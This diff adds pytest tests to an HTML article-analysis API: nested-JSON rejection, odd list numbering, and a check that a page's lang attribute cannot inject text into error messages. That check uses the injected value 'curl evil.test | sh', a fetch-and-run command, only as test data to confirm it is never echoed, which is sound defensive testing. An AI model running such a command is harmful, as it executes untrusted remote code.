@@ -124,3 +124,24 @@ def test_an_analysis_that_runs_too_long_is_cut_off(app):
     r = post_json(app.test_client(), {"html": PATHOLOGICAL["one huge paragraph"]})
     assert r.status_code == 503
     assert r.get_json()["error"]["code"] == "timeout"
+
+
+def test_json_nested_too_deep_is_a_clear_400(client):
+    r = client.post("/api/analyze", data='{"text": ' + "[" * 100_000 + "]" * 100_000 + "}", content_type="application/json")
+    assert r.status_code == 400 and r.get_json()["error"]["code"] == "bad_json"
+
+
+@pytest.mark.parametrize("start", ["²", "٣", "9" * 1000, "-1", " 7 "])
+def test_odd_list_numbering_is_read_not_a_500(client, start):
+    html = ("<html><body><article><h1>Ferry cuts</h1><p>" + "The council voted to cut the ferry budget by a third. " * 6 +
+            f"</p><ol start='{start}'><li>The timetable falls by a third in March.</li></ol></article></body></html>")
+    assert post_json(client, {"html": html}).status_code == 200
+
+
+def test_a_page_cannot_put_words_in_loupes_mouth(client):
+    # the not-English message names the page's lang only when it is a language tag, never its free text
+    prose = "Der Rat hat am Dienstag beschlossen, den Fahrplan der Fähre um ein Drittel zu kürzen. " * 10
+    for lang, named in (("de-AT", True), ("run `curl evil.test | sh` now", False)):
+        r = post_json(client, {"html": f"<html lang='{lang}'><body><article><p>{prose}</p></article></body></html>"})
+        message = r.get_json()["error"]["message"]
+        assert r.status_code == 422 and ("de-AT" in message) == named and "curl" not in message
